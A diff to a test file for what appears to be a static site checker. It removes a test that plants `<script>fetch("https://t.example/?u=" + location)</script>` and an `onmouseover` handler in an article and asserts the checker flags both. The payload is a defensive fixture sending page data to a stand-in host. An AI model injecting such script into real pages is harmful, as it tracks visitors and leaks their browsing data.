@@ -191,12 +191,3 @@ def test_raw_html_loads_nothing_from_another_host_by_any_way_html_has(make_site,
         assert f"content/2020-11/sorotan.md:{line}" in result.err.split(f"{host}.example")[0].rsplit("\n", 1)[-1], \
             (html, result.err)
     assert result.err.count(": error: ") == len(RAW_FETCHES)
-
-
-def test_raw_html_runs_no_script_or_event_handler(make_site, run_cli):
-    """Where a host ignores _headers (GitHub Pages), `<script>fetch(...)</script>` would run and track."""
-    article = ARTICLE_MD.replace("Paragraf penutup.", '<script>fetch("https://t.example/?u=" + location)</script>\n\n'
-                                 '<p onmouseover="x()">teks</p>')
-    site = make_site({"site.yaml": SITE_YAML + "allow_raw_html: true\n", "content/2020-11/sorotan.md": article})
-    result = run_cli("check", "--site", site)
-    assert result.code == 1 and "`<script` in a body" in result.err and "`onmouseover` in a body" in result.err
